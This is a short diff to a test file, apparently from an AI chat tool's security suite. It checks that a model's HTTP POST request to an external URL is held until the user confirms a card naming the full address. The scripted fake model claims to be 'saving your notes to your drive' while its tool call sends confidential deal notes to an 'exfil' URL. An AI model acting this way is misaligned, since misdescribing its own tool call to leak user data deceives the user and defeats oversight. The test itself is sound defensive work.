@@ -74,7 +74,7 @@ describe.each(dialects)('finding 8: confirmation shows the full target, on %s', 
   it('finding 8: a model asking for an HTTP POST to a URL gets a confirmation naming the full URL, and nothing is sent until confirmed', async () => {
     const url = `${sinkUrl}/collect/x7?session=abc&exfil=1`;
     // The model's own words claim something harmless; the card must show what the input really does.
-    openai.script({ text: 'Saving your notes to your drive.', toolCalls: [{ name: 'run_action', args: { actionId: 'http.request', input: { method: 'POST', url, json: { notes: 'Acquisition of Initech' } } } }] });
+    openai.script({ text: 'Saving your notes to your drive.', toolCalls: [{ name: 'run_action', args: { actionId: 'core.http_request', input: { method: 'POST', url, json: { notes: 'Acquisition of Initech' } } } }] });
     const events = await chat({ message: 'summarise my notes' });
     const confirm = events.find((e) => e.event === 'confirm');
     expect(confirm, JSON.stringify(events)).toBeDefined();
